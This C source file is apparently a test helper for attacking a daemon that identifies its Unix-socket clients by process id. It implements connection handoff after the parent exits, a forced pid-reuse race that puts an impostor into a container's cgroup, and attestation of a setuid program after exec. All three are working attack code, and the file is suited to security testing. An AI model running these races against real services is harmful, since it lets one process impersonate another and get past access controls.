/* peer-handoff.c — attestation attacks by hand.
 *
 *   peer-handoff SOCKET PATH
 *       connect, hand the connection to a child, exit at once; the child
 *       sends GET PATH after its parent is gone.
 *   peer-handoff SOCKET PATH reuse DAEMON-PID CGROUP-DIR UID
 *       the pid-reuse race, made certain: with the daemon stopped
 *       (SIGSTOP) a child of uid UID connects and exits; a new process is
 *       forked onto the same pid (through ns_last_pid) and put into
 *       CGROUP-DIR, a container's cgroup; then the daemon continues and
 *       the request goes out on the old connection.  Needs root.
 *   peer-handoff SOCKET PATH exec [stop DAEMON-PID] PROGRAM
 *       connect, send GET PATH and print the answer, then exec PROGRAM
 *       (a setuid copy of this helper) with the connection open: it sends
 *       GET PATH again ("use-fd").  With "stop", the caller has stopped
 *       the daemon (SIGSTOP) and PROGRAM continues it after the exec, so
 *       the daemon first looks at the peer when it already runs PROGRAM;
 *       no request is sent before the exec then.
 *   peer-handoff use-fd FD PATH [CONT-PID]
 *       (run by exec) GET PATH on FD; continues CONT-PID first if given.
 *
 * Each request prints the status line and the body ("closed" when the
 * daemon ended the connection instead). */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int sock_open(void) {
        return socket(AF_UNIX, SOCK_STREAM, 0); /* no CLOEXEC: exec keeps it */
}

static int sock_connect(int fd, const char *path) {
        struct sockaddr_un sa = { .sun_family = AF_UNIX };

        if (strlen(path) >= sizeof(sa.sun_path))
                return -1;
        strcpy(sa.sun_path, path);
        return connect(fd, (struct sockaddr *) &sa, sizeof(sa));
}

/* One GET on fd; prints the status line and the body, or "closed". */
static void request(int fd, const char *path, int keep_alive) {
        char req[512], buf[8192];
        size_t got = 0;
        ssize_t n;
        char *end;

        snprintf(req, sizeof(req), "GET %s HTTP/1.1\r\nHost: x\r\n%s\r\n", path,
                 keep_alive ? "" : "Connection: close\r\n");
        if (send(fd, req, strlen(req), MSG_NOSIGNAL) < 0) { /* refused at accept: EPIPE */
                puts("closed");
                fflush(stdout);
                return;
        }
        /* until the end of the headers and the Content-Length they give */
        while (got < sizeof(buf) - 1) {
                n = read(fd, buf + got, sizeof(buf) - 1 - got);
                if (n <= 0)
                        break;
                got += (size_t) n;
                buf[got] = '\0';
                end = strstr(buf, "\r\n\r\n");
                if (end) {
                        char *cl = strcasestr(buf, "\r\nContent-Length:");
                        size_t want = (size_t) (end + 4 - buf) + (cl ? strtoul(cl + 17, NULL, 10) : 0);

                        if (got >= want)
                                break;
                }
        }
        buf[got] = '\0';
        if (got == 0) {
                puts("closed");
        } else {
                end = strstr(buf, "\r\n\r\n");
                printf("%.*s\n%s\n", (int) strcspn(buf, "\r\n"), buf, end ? end + 4 : "");
        }
        fflush(stdout);
}

static int handoff(const char *sock, const char *path) {
        char buf[1];
        int fd, p[2];
        pid_t pid;

        fd = sock_open();
        if (fd < 0 || sock_connect(fd, sock) < 0)
                return perror("connect"), 1;
        if (pipe(p) < 0)
                return 1;
        pid = fork();
        if (pid < 0)
                return 1;
        if (pid > 0)
                _exit(0); /* the attested process is gone */
        /* wait until the parent has exited: its end of the pipe closes */
        close(p[1]);
        while (getppid() != 1 && read(p[0], buf, 1) > 0)
                ;
        usleep(200 * 1000);
        request(fd, path, 0);
        return 0;
}

static int write_file(const char *file, long v) {
        char s[32];
        int fd = open(file, O_WRONLY | O_CLOEXEC);
        int r;

        if (fd < 0)
                return -1;
        snprintf(s, sizeof(s), "%ld", v);
        r = write(fd, s, strlen(s)) == (ssize_t) strlen(s) ? 0 : -1;
        close(fd);
        return r;
}

static int reuse(const char *sock, const char *path, pid_t daemon, const char *cgroup, uid_t uid) {
        char procs[4096];
        pid_t first, impostor = -1;
        int fd, st, go[2];

        snprintf(procs, sizeof(procs), "%s/cgroup.procs", cgroup);
        fd = sock_open();
        if (fd < 0 || kill(daemon, SIGSTOP) < 0)
                return perror("stop"), 1;
        first = fork();
        if (first == 0) {
                /* the same socket, connected by another process and uid */
                if (setgid(uid) < 0 || setuid(uid) < 0 || sock_connect(fd, sock) < 0)
                        _exit(1);
                _exit(0);
        }
        if (first < 0 || waitpid(first, &st, 0) < 0 || !WIFEXITED(st) || WEXITSTATUS(st) != 0) {
                kill(daemon, SIGCONT);
                return fprintf(stderr, "connect as uid %u failed\n", (unsigned) uid), 1;
        }
        /* its pid is free: fork onto it (other forks on the host may get in
         * between, so try a few times) */
        for (int tries = 0; tries < 50 && impostor != first; tries++) {
                if (impostor > 0) {
                        kill(impostor, SIGKILL);
                        waitpid(impostor, NULL, 0);
                }
                if (pipe(go) < 0 || write_file("/proc/sys/kernel/ns_last_pid", first - 1) < 0)
                        break;
                impostor = fork();
                if (impostor == 0) {
                        char b;

                        close(go[1]);
                        if (read(go[0], &b, 1) != 1) /* wait to be told it is the one */
                                _exit(0);
                        if (write_file(procs, (long) getpid()) < 0)
                                _exit(1);
                        pause();
                        _exit(0);
                }
                close(go[0]);
                if (impostor == first && write(go[1], "x", 1) != 1)
                        impostor = -1;
                close(go[1]);
        }
        if (impostor != first) {
                kill(daemon, SIGCONT);
                return fprintf(stderr, "could not fork onto pid %d\n", (int) first), 1;
        }
        usleep(100 * 1000); /* the impostor moves into the cgroup */
        fprintf(stderr, "pid %d reused\n", (int) first);
        kill(daemon, SIGCONT);
        request(fd, path, 0);
        kill(impostor, SIGKILL);
        waitpid(impostor, NULL, 0);
        return 0;
}

static int exec_after(const char *sock, const char *path, pid_t stop, const char *prog) {
        char fds[16], pids[16];
        int fd = sock_open();

        if (fd < 0)
                return 1;
        if (sock_connect(fd, sock) < 0)
                return perror("connect"), 1;
        if (stop <= 0)
                request(fd, path, 1); /* attested and answered as who we are now */
        snprintf(fds, sizeof(fds), "%d", fd);
        snprintf(pids, sizeof(pids), "%d", (int) stop);
        execl(prog, prog, "use-fd", fds, path, stop > 0 ? pids : NULL, (char *) NULL);
        perror("exec");
        if (stop > 0)
                kill(stop, SIGCONT);
        return 1;
}

int main(int argc, char **argv) {
        if (argc >= 4 && strcmp(argv[1], "use-fd") == 0) {
                if (argc == 5)
                        kill((pid_t) atoi(argv[4]), SIGCONT);
                request(atoi(argv[2]), argv[3], 0);
                return 0;
        }
        if (argc == 3)
                return handoff(argv[1], argv[2]);
        if (argc == 7 && strcmp(argv[3], "reuse") == 0)
                return reuse(argv[1], argv[2], (pid_t) atoi(argv[4]), argv[5], (uid_t) atoi(argv[6]));
        if (argc == 5 && strcmp(argv[3], "exec") == 0)
                return exec_after(argv[1], argv[2], 0, argv[4]);
        if (argc == 7 && strcmp(argv[3], "exec") == 0 && strcmp(argv[4], "stop") == 0)
                return exec_after(argv[1], argv[2], (pid_t) atoi(argv[5]), argv[6]);
        return 2;
}
